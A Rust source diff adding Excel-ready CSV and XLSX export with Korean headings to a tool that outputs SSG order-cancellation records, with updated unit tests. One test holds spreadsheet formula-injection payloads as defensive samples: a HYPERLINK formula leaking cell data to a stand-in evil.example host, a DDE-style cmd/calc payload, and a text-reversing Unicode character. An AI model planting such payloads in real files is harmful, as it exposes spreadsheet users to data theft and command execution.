@@ -1,4 +1,5 @@
-//! Writing rows: a table for people, CSV and JSON lines for tools, XML as SSG answers.
+//! Writing rows: a table for people, CSV for spreadsheets (Excel-ready by default) and
+//! tools, an XLSX workbook, JSON lines for tools, XML as SSG answers.
 
 use std::io::Write;
 
@@ -13,21 +14,46 @@ pub enum OutputFormat {
     Table,
     /// Every field; one line per cost line (`cstInfo.*` columns), so a row with one cost
     /// line is one line. Safe to open in a spreadsheet: see [`spreadsheet_cell`].
-    Csv,
+    Csv(CsvStyle),
+    /// An Excel workbook: one sheet, Korean headings, numbers as numbers.
+    Xlsx,
     /// One JSON object per row, shaped like the API's `data` elements.
     Jsonl,
     /// One complete `<result>` answer, as the API writes it.
     Xml,
 }
 
+/// Who a CSV is for.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum CsvStyle {
+    /// Excel, as Korean offices open files: a UTF-8 byte-order mark (without it, Korean
+    /// Excel reads UTF-8 as mojibake) and Korean column headings.
+    Excel,
+    /// Tools: no byte-order mark, the API's field names as headings.
+    Plain,
+}
+
+/// Whether the rows begin an output or continue one written before (an incremental run
+/// appending to the same file): a continuation repeats no heading and no byte-order mark.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum Part {
+    First,
+    Continuation,
+}
+
 pub fn write_rows(
     format: OutputFormat,
     rows: &[WireRow],
+    part: Part,
     out: &mut impl Write,
 ) -> std::io::Result<()> {
     match format {
         OutputFormat::Table => table(rows, out),
-        OutputFormat::Csv => csv(rows, out),
+        OutputFormat::Csv(style) => csv(rows, style, part, out),
+        OutputFormat::Xlsx => {
+            let workbook = xlsx(rows).map_err(std::io::Error::other)?;
+            out.write_all(&workbook)
+        }
         OutputFormat::Jsonl => {
             for row in rows {
                 serde_json::to_writer(&mut *out, row)?;
@@ -42,33 +68,143 @@ pub fn write_rows(
     }
 }
 
-fn csv(rows: &[WireRow], out: &mut impl Write) -> std::io::Result<()> {
-    let mut writer = ::csv::Writer::from_writer(out);
-    let mut header: Vec<String> = ROW_FIELDS.iter().map(|name| (*name).to_owned()).collect();
-    header.extend(COST_FIELDS.iter().map(|name| format!("cstInfo.{name}")));
-    writer.write_record(&header)?;
+/// The Korean heading of a row field, as SSG's partner office names it.
+fn korean_row_heading(field: &str) -> &'static str {
+    match field {
+        "ordpeNm" => "주문자명",
+        "ordRcpMediaCd" => "주문접수매체코드",
+        "ordRcpMediaNm" => "주문접수매체",
+        "orordNo" => "원주문번호",
+        "orordItemSeq" => "원주문순번",
+        "ordNo" => "클레임주문번호",
+        "ordItemSeq" => "클레임주문순번",
+        "ordItemStatCd" => "주문상품상태코드",
+        "ordItemStatNm" => "주문상품상태",
+        "itemNm" => "상품명",
+        "itemId" => "상품번호",
+        "clmRsnCd" => "클레임사유코드",
+        "clmRsnNm" => "클레임사유",
+        "clmRsnCntt" => "클레임사유내용",
+        "imptDivCd" => "귀책구분코드",
+        "ordCnclDts" => "주문취소일시",
+        "cnclItemQty" => "취소수량",
+        "ordRcpDts" => "주문접수일시",
+        "dircItemQty" => "주문수량",
+        "uitemId" => "단품번호",
+        "uitemNm" => "단품명",
+        _ => "",
+    }
+}
+
+/// The Korean heading of a cost-line field.
+fn korean_cost_heading(field: &str) -> &'static str {
+    match field {
+        "ordNo" => "비용 클레임주문번호",
+        "ordItemSeq" => "비용 클레임주문순번",
+        "shpmtShppcst" => "출고배송비",
+        "retShppcst" => "반품배송비",
+        "exchShppcst" => "교환배송비",
+        "splVenBdnDcAmt" => "업체부담할인금액",
+        "splVenId" => "공급업체ID",
+        "lrnkSplVenId" => "하위업체ID",
+        _ => "",
+    }
+}
+
+/// The headings of the CSV and XLSX columns: every row field, then every cost field.
+fn headings(style: CsvStyle) -> Vec<String> {
+    let rows = ROW_FIELDS.iter().map(|name| match style {
+        CsvStyle::Excel => korean_row_heading(name).to_owned(),
+        CsvStyle::Plain => (*name).to_owned(),
+    });
+    let costs = COST_FIELDS.iter().map(|name| match style {
+        CsvStyle::Excel => korean_cost_heading(name).to_owned(),
+        CsvStyle::Plain => format!("cstInfo.{name}"),
+    });
+    rows.chain(costs).collect()
+}
+
+/// The cells of each line: a row's fields with one cost line's (or none), raw.
+fn lines(rows: &[WireRow]) -> Vec<Vec<&str>> {
+    let mut lines = Vec::new();
     for row in rows {
-        let fields: Vec<_> = row
-            .fields()
-            .iter()
-            .map(|(_, value)| spreadsheet_cell(value))
-            .collect();
+        let fields: Vec<&str> = row.fields().iter().map(|(_, value)| *value).collect();
         if row.cst_info.is_empty() {
-            let mut record = fields.clone();
-            record.extend(std::iter::repeat_n("".into(), COST_FIELDS.len()));
-            writer.write_record(record.iter().map(|cell| cell.as_bytes()))?;
+            let mut line = fields.clone();
+            line.extend(std::iter::repeat_n("", COST_FIELDS.len()));
+            lines.push(line);
         }
         for cost in &row.cst_info {
-            let mut record = fields.clone();
-            record.extend(
-                cost.fields()
-                    .iter()
-                    .map(|(_, value)| spreadsheet_cell(value)),
-            );
-            writer.write_record(record.iter().map(|cell| cell.as_bytes()))?;
+            let mut line = fields.clone();
+            line.extend(cost.fields().iter().map(|(_, value)| *value));
+            lines.push(line);
         }
     }
+    lines
+}
+
+/// The UTF-8 byte-order mark.
+const BOM: &[u8] = b"\xEF\xBB\xBF";
+
+fn csv(rows: &[WireRow], style: CsvStyle, part: Part, out: &mut impl Write) -> std::io::Result<()> {
+    if (style, part) == (CsvStyle::Excel, Part::First) {
+        out.write_all(BOM)?;
+    }
+    let mut writer = ::csv::Writer::from_writer(out);
+    if part == Part::First {
+        writer.write_record(headings(style))?;
+    }
+    for line in lines(rows) {
+        writer.write_record(line.iter().map(|cell| spreadsheet_cell(cell).into_owned()))?;
+    }
     writer.flush()
+}
+
+/// Columns written as numbers in a workbook (the rest are text, so that identifiers with
+/// leading zeros and codes keep them).
+const NUMERIC: &[&str] = &[
+    "cnclItemQty",
+    "dircItemQty",
+    "shpmtShppcst",
+    "retShppcst",
+    "exchShppcst",
+    "splVenBdnDcAmt",
+];
+
+/// A workbook of the rows: one sheet, Korean headings in bold on a frozen first row,
+/// quantities and amounts as numbers, everything else as text (never as a formula).
+fn xlsx(rows: &[WireRow]) -> Result<Vec<u8>, rust_xlsxwriter::XlsxError> {
+    use rust_xlsxwriter::{Format, Workbook};
+    let mut workbook = Workbook::new();
+    let sheet = workbook.add_worksheet();
+    sheet.set_name("취소주문")?;
+    let bold = Format::new().set_bold();
+    let names: Vec<&str> = ROW_FIELDS
+        .iter()
+        .chain(COST_FIELDS.iter())
+        .copied()
+        .collect();
+    for (column, heading) in headings(CsvStyle::Excel).iter().enumerate() {
+        sheet.write_string_with_format(0, column as u16, heading, &bold)?;
+    }
+    for (index, line) in lines(rows).iter().enumerate() {
+        let row = index as u32 + 1;
+        for (column, cell) in line.iter().enumerate() {
+            let column_index = column as u16;
+            let cell = reveal(cell);
+            match cell.parse::<f64>() {
+                Ok(number) if NUMERIC.contains(&names[column]) => {
+                    sheet.write_number(row, column_index, number)?;
+                }
+                _ => {
+                    sheet.write_string(row, column_index, cell.as_ref())?;
+                }
+            }
+        }
+    }
+    sheet.set_freeze_panes(1, 0)?;
+    sheet.autofit();
+    workbook.save_to_buffer()
 }
 
 fn table(rows: &[WireRow], out: &mut impl Write) -> std::io::Result<()> {
@@ -162,7 +298,13 @@ mod tests {
     #[test]
     fn csv_quotes_what_needs_quoting_and_reads_back() {
         let mut out = Vec::new();
-        write_rows(OutputFormat::Csv, &sample(), &mut out).unwrap();
+        write_rows(
+            OutputFormat::Csv(CsvStyle::Plain),
+            &sample(),
+            Part::First,
+            &mut out,
+        )
+        .unwrap();
         let mut reader = ::csv::Reader::from_reader(out.as_slice());
         let headers = reader.headers().unwrap().clone();
         assert_eq!(headers.len(), ROW_FIELDS.len() + COST_FIELDS.len());
@@ -175,13 +317,94 @@ mod tests {
     }
 
     #[test]
+    fn excel_csv_has_a_byte_order_mark_korean_headings_and_no_repeat_when_continued() {
+        let mut first = Vec::new();
+        write_rows(
+            OutputFormat::Csv(CsvStyle::Excel),
+            &sample(),
+            Part::First,
+            &mut first,
+        )
+        .unwrap();
+        assert!(
+            first.starts_with(BOM),
+            "Korean Excel needs the byte-order mark"
+        );
+        let text = String::from_utf8(first[BOM.len()..].to_vec()).unwrap();
+        let heading = text.lines().next().unwrap();
+        assert!(
+            heading.starts_with("주문자명,주문접수매체코드,"),
+            "{heading}"
+        );
+        assert!(heading.contains("업체부담할인금액"), "{heading}");
+        assert_eq!(
+            heading.split(',').count(),
+            ROW_FIELDS.len() + COST_FIELDS.len()
+        );
+
+        let mut next = Vec::new();
+        write_rows(
+            OutputFormat::Csv(CsvStyle::Excel),
+            &sample(),
+            Part::Continuation,
+            &mut next,
+        )
+        .unwrap();
+        assert!(!next.starts_with(BOM));
+        let appended = String::from_utf8(next).unwrap();
+        assert!(
+            !appended.contains("주문자명"),
+            "no heading again: {appended}"
+        );
+        assert!(appended.starts_with("홍길동,"), "{appended}");
+    }
+
+    #[test]
+    fn a_workbook_holds_every_line_with_numbers_as_numbers() {
+        let mut rows = sample();
+        rows[0].cncl_item_qty = "2".into();
+        rows[0].ordpe_nm = "=1+1".into();
+        let mut out = Vec::new();
+        write_rows(OutputFormat::Xlsx, &rows, Part::First, &mut out).unwrap();
+        // Read back by another implementation of the format.
+        use calamine::{Data, Reader, Xlsx};
+        let mut workbook: Xlsx<_> =
+            calamine::open_workbook_from_rs(std::io::Cursor::new(out)).unwrap();
+        let sheet = workbook.worksheet_range("취소주문").unwrap();
+        let cells: Vec<Vec<Data>> = sheet.rows().map(<[Data]>::to_vec).collect();
+        assert_eq!(cells.len(), 2, "the headings and one line");
+        assert_eq!(cells[0][0], Data::String("주문자명".into()));
+        assert_eq!(
+            cells[1][0],
+            Data::String("=1+1".into()),
+            "text, never a formula"
+        );
+        let qty = ROW_FIELDS.iter().position(|f| *f == "cnclItemQty").unwrap();
+        assert_eq!(cells[1][qty], Data::Float(2.0));
+        let discount = ROW_FIELDS.len()
+            + COST_FIELDS
+                .iter()
+                .position(|f| *f == "splVenBdnDcAmt")
+                .unwrap();
+        assert_eq!(cells[1][discount], Data::Float(500.0));
+        let order = ROW_FIELDS.iter().position(|f| *f == "ordNo").unwrap();
+        assert_eq!(cells[1][order], Data::String("20261122000B07".into()));
+    }
+
+    #[test]
     fn csv_cells_cannot_act_as_formulas_or_hide_text() {
         let mut rows = sample();
         rows[0].ordpe_nm = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")".into();
         rows[0].clm_rsn_cntt = "@SUM(1+1)*cmd|' /C calc'!A0".into();
         rows[0].item_nm = "우유\u{202E}1L".into();
         let mut out = Vec::new();
-        write_rows(OutputFormat::Csv, &rows, &mut out).unwrap();
+        write_rows(
+            OutputFormat::Csv(CsvStyle::Plain),
+            &rows,
+            Part::First,
+            &mut out,
+        )
+        .unwrap();
         let mut reader = ::csv::Reader::from_reader(out.as_slice());
         for record in reader.records() {
             for cell in record.unwrap().iter() {
@@ -202,7 +425,7 @@ mod tests {
         let mut rows = sample();
         rows[0].item_nm = "우유\u{200B}1L".into();
         let mut out = Vec::new();
-        write_rows(OutputFormat::Table, &rows, &mut out).unwrap();
+        write_rows(OutputFormat::Table, &rows, Part::First, &mut out).unwrap();
         let text = String::from_utf8(out).unwrap();
         assert!(text.contains("우유<U+200B>1L"), "{text}");
     }
@@ -211,12 +434,12 @@ mod tests {
     fn jsonl_and_xml_read_back() {
         let rows = sample();
         let mut out = Vec::new();
-        write_rows(OutputFormat::Jsonl, &rows, &mut out).unwrap();
+        write_rows(OutputFormat::Jsonl, &rows, Part::First, &mut out).unwrap();
         let parsed: WireRow =
             serde_json::from_slice(out.split(|&b| b == b'\n').next().unwrap()).unwrap();
         assert_eq!(parsed, rows[0]);
         let mut xml = Vec::new();
-        write_rows(OutputFormat::Xml, &rows, &mut xml).unwrap();
+        write_rows(OutputFormat::Xml, &rows, Part::First, &mut xml).unwrap();
         let answer = claims_wire::decode_answer(Format::Xml, xml.trim_ascii_end()).unwrap();
         assert_eq!(answer.rows, rows);
     }
@@ -224,7 +447,7 @@ mod tests {
     #[test]
     fn tables_align_korean_text() {
         let mut out = Vec::new();
-        write_rows(OutputFormat::Table, &sample(), &mut out).unwrap();
+        write_rows(OutputFormat::Table, &sample(), Part::First, &mut out).unwrap();
         let text = String::from_utf8(out).unwrap();
         assert!(text.ends_with("1 row(s)\n"));
         let lines: Vec<&str> = text.lines().collect();
